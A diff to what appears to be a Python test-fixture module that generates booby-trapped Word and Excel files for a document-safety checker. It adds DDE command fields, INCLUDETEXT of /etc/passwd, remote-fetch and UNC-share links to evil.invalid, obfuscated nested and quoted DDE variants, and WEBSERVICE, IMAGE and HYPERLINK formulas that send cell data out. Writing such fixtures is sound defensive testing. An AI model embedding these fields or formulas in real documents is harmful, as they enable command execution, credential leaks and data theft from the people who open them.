@@ -30,12 +30,16 @@ _TAGS = {
 }
 
 
-def _field(words: str) -> str:
+def field(words: str) -> str:
+    """A field of this code, in the midst of a run's text."""
     return (
         '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
         f"<w:r><w:instrText>{words}</w:instrText></w:r>"
         '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>'
     )
+
+
+CLOSED, OPENED = "</w:instrText></w:r><w:r><w:t>", "</w:t></w:r><w:r><w:instrText>"
 
 
 def _in_body(xml: str) -> Callable[[Path], Path]:
@@ -111,11 +115,17 @@ def _tagged(text: str) -> Callable[[Path], Path]:
 
 WORD: dict[str, Callable[[Path], Path]] = {
     **{name: _tagged(text) for name, text in _TAGS.items()},
-    "dde-field": _in_body(_field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"')),
-    "includetext": _in_body(_field(r'INCLUDETEXT "file:///etc/passwd"')),
-    "includepicture": _in_body(_field(r'includepicture "http://evil.invalid/x.png" \\d')),
-    "split-dde": _in_body(_field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd")),
+    "dde-field": _in_body(field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"')),
+    "includetext": _in_body(field(r'INCLUDETEXT "file:///etc/passwd"')),
+    "includepicture": _in_body(field(r'includepicture "http://evil.invalid/x.png" \\d')),
+    "split-dde": _in_body(field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd")),
     "simple-field": _in_body('</w:t></w:r><w:fldSimple w:instr="LINK Excel.Sheet.8 c:\\\\x.xls"/><w:r><w:t>'),
+    "quoted-dde": _in_body(field('"DDEAUTO" cmd')),
+    "escaped-dde": _in_body(field("\\DDEAUTO cmd")),
+    "nested-quote": _in_body(field(f"{CLOSED}{field('QUOTE 68 68 69')}{OPENED} cmd")),
+    "nested-before-page": _in_body(field(f"{CLOSED}{field('QUOTE 68 68 69')}{OPENED} PAGE")),
+    "share-field": _in_body(field(r'HYPERLINK "\\evil.invalid\share"')),
+    "share-field-behind-a-switch": _in_body(field(r'HYPERLINK \t "x" "\\evil.invalid\share"')),
     "ole": _in_body('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/>'),
     "ole-part": _related("oleObject", "embeddings/oleObject1.bin", external=False),
     "attached-template": _related("attachedTemplate", "http://evil.invalid/x.dotm", "word/settings.xml"),
@@ -132,13 +142,21 @@ WORD: dict[str, Callable[[Path], Path]] = {
 }
 
 
-def _formula(path: Path) -> Path:
-    workbook = Workbook()
-    assert workbook.active is not None
-    workbook.active.title = "问题台账"
-    workbook.active.append(["序号", "底稿编号", "=cmd|'/c calc'!A1"])
-    workbook.save(path)
-    return path
+def with_formula(formula: str) -> Callable[[Path], Path]:
+    """A workbook with this in a cell."""
+
+    def make(path: Path) -> Path:
+        workbook = Workbook()
+        assert workbook.active is not None
+        workbook.active.title = "问题台账"
+        workbook.active.append(["序号", "底稿编号", formula])
+        workbook.save(path)
+        return path
+
+    return make
+
+
+_formula = with_formula("=cmd|'/c calc'!A1")
 
 
 def _outside_book(path: Path) -> Path:
@@ -156,8 +174,33 @@ def _macro_book(path: Path) -> Path:
     return changed(path, {"xl/vbaProject.bin": lambda _: b"macro"})
 
 
+def _in_sheet(xml: str, behind: str = "</sheetData>", part: str = "xl/worksheets/sheet1.xml") -> Callable[[Path], Path]:
+    def make(path: Path) -> Path:
+        with_formula("标题")(path)
+        return changed(path, {part: lambda old: old.replace(behind.encode(), f"{behind}{xml}".encode())})
+
+    return make
+
+
+def _named(name: str, formula: str) -> Callable[[Path], Path]:
+    names = f'<definedNames><definedName name="{name}">{formula}</definedName></definedNames>'
+    return _in_sheet(names, "</sheets>", "xl/workbook.xml")
+
+
+_FORMAT = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula></cfRule>'
+_VALID = '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>{}</formula1></dataValidation>'
+_WEB = 'WEBSERVICE("http://evil.invalid")'
+
 SHEETS: dict[str, Callable[[Path], Path]] = {
     "dde-formula": _formula,
+    "lower-case": with_formula('=webservice("http://evil.invalid")'),
+    "picture-function": with_formula('=_xlfn.IMAGE("http://evil.invalid/x.png")'),
+    "share-link": with_formula(r'=HYPERLINK("\\evil.invalid\x")'),
+    "web-link": with_formula('=HYPERLINK("http://evil.invalid?"&A1)'),
+    "conditional-format": _in_sheet(_FORMAT.format(_WEB) + "</conditionalFormatting>"),
+    "validation": _in_sheet(_VALID.format(_WEB) + "</dataValidations>"),
+    "dde-name": _named("甲", "cmd|'/c calc'!A1"),
+    "auto-open": _named("_xlnm.Auto_Open", "问题台账!$A$1"),
     "outside-book": _outside_book,
     "macro-book": _macro_book,
 }
